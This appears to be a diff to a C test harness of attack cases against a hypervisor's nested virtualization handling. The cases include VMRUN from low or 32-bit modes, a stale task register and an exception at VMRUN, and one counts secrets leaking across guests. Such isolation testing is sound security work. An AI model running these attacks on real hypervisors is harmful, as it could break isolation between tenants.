@@ -90,7 +90,7 @@ ATTACK(stale_task_register) {
     memcpy(other, l2->vmcb, PAGE);
     l2->vmcb->tr = (struct segment){0};
     __asm__ volatile("vmload %0" : : "a"(other) : "memory");
-    ((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
+    stub_at(stub)((uintptr_t)l2->vmcb, COM1_LSR);
     print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
 }
 
@@ -118,6 +118,17 @@ ATTACK(read_only_vmcb) {
     print("\nended=1\n");
 }
 
+/* VMRUN where code of any mode can lie. */
+ATTACK(low_vmrun) {
+    struct l2 *l2 = l2_new();
+
+    l2_say(l2, "L2 begins\n");
+    L2_LOAD(l2, l2_secret);
+    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
+    ((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
+    print("\nended=1\n");
+}
+
 /* VMRUN by EAX, with more in RAX. */
 ATTACK(addr32_vmrun) {
     struct l2 *l2 = l2_new();
@@ -127,7 +138,7 @@ ATTACK(addr32_vmrun) {
     l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
     /* the registers that L2 gets from here are those of a C function: its own code sets them */
     L2_LOAD(l2, l2_secret);
-    ((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
+    stub_at(stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
     print("\nended=1\n");
 }
 
@@ -159,13 +170,14 @@ ATTACK(exception_at_vmrun) {
     l2_say(l2, "L2 begins\n");
     set_up_late(l2, 1);
     map_in_l2(l2, at, page);
+    ((uint64_t *)(l2->memory + L2_TABLES))[HIGH >> 39 & 511] = *(uint64_t *)(l2->memory + L2_TABLES);
     memset(l2->memory + page, 0x90, PAGE);
     *(uint16_t *)(l2->memory + page + at % PAGE) = UD2;
     set_idt_entry(l2, INVALID_OPCODE, L2_CODE);
     l2->vmcb->intercept_exceptions = 0;
     l2->nested[root / PAGE] = (uintptr_t)(l2->memory + L2_TABLES) | 7;
     l2->vmcb->cr3 = root;
-    l2->vmcb->rip = at;
+    l2->vmcb->rip = HIGH | at;
     run_and_tell(l2);
 }
 
@@ -195,7 +207,7 @@ static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t tries) {
     L2_LOAD(l2, l2_pause);
     for (uint64_t i = 0; i < tries; i++) {
         l2->vmcb->rip = L2_CODE;
-        foreign += ((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
+        foreign += stub_at(code + i * STUB_STEP)((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
         while (!(in8(COM1_LSR) & 0x20))
             ;
     }
